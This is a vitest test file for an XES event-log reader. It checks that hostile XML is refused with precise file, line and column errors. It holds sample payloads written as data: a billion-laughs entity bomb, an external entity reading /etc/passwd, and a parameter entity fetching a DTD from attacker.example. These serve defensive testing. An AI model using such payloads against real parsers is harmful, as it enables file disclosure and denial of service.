// Hostile XES: entity declarations, entity expansion and external entities must be refused, never expanded or read.

import { describe, expect, it } from 'vitest';
import { UserError } from '../../../src/errors.js';
import { readLog } from '../../../src/io/read-log.js';
import { runCli } from '../../helpers/run-cli.js';
import { tempFolder } from '../../helpers/temp-files.js';

const files = tempFolder();
const EVENT = '<event><string key="concept:name" value="&lol9;"/><date key="time:timestamp" value="2024-01-01T00:00:00Z"/></event>';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE log [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<log><trace><string key="concept:name" value="1"/>${EVENT}</trace></log>
`;

const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE log [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<log><trace><string key="concept:name" value="&xxe;"/>${EVENT.replace('&lol9;', '&xxe;')}</trace></log>
`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE log [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<log/>
`;

const EXTERNAL_DTD = `<?xml version="1.0"?>
<!DOCTYPE log SYSTEM "file:///etc/passwd">
<log/>
`;

const UNDECLARED_REFERENCE = `<?xml version="1.0"?>
<log>
  <trace><string key="concept:name" value="1"/>
    ${EVENT}
  </trace>
</log>
`;

async function refusal(content: string): Promise<UserError> {
  const error = await readLog([files.write(`hostile-${Math.random().toString(36).slice(2)}.xes`, content)]).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(UserError);
  return error as UserError;
}

describe('XES reader on hostile files', () => {
  it('refuses entity declarations (billion laughs) at the declaration, before any expansion', async () => {
    const error = await refusal(BILLION_LAUGHS);
    expect(error.message).toMatch(/refused: the DOCTYPE declares entities/);
    expect(error.location).toMatchObject({ line: 3, column: 3 });
    expect(error.location.file).toMatch(/\.xes$/);
  });

  it('refuses external entities without reading the file they name', async () => {
    const error = await refusal(EXTERNAL_ENTITY);
    expect(error.message).toMatch(/refused: the DOCTYPE declares entities/);
    expect(error.message).not.toMatch(/root:/);
    expect(error.location).toMatchObject({ line: 2, column: 17 });
  });

  it('refuses parameter entities and external DTDs', async () => {
    expect((await refusal(PARAMETER_ENTITY)).message).toMatch(/declares entities/);
    const external = await refusal(EXTERNAL_DTD);
    expect(external.message).toMatch(/refers to an external DTD/);
    expect(external.location.line).toBe(2);
  });

  it('refuses a reference to an undeclared entity with its line and column', async () => {
    const error = await refusal(UNDECLARED_REFERENCE);
    expect(error.message).toMatch(/undefined entity.*never expanded/);
    expect(error.location.line).toBe(4);
    expect(error.location.column).toBeGreaterThan(40);
  });

  it('accepts a bare DOCTYPE and the predefined and character entities', async () => {
    const plain = `<!DOCTYPE log><log><trace><string key="concept:name" value="&quot;1&quot;"/>${EVENT.replace('&lol9;', '&#x42;&amp;&apos;')}</trace></log>`;
    const { log } = await readLog([files.write('plain.xes', plain)]);
    expect(log.caseIds).toEqual(['"1"']);
    expect(log.activities.names).toEqual(["B&'"]);
  });

  it('exits 2 with one line naming file, line and column, and no stack trace', () => {
    const path = files.write('laughs.xes', BILLION_LAUGHS);
    const result = runCli(['inspect', path]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toBe(`redtape: ${path}:3:3: refused: the DOCTYPE declares entities (entity expansion, e.g. "billion laughs", is never performed; XES needs no DTD)\n`);
  });
});
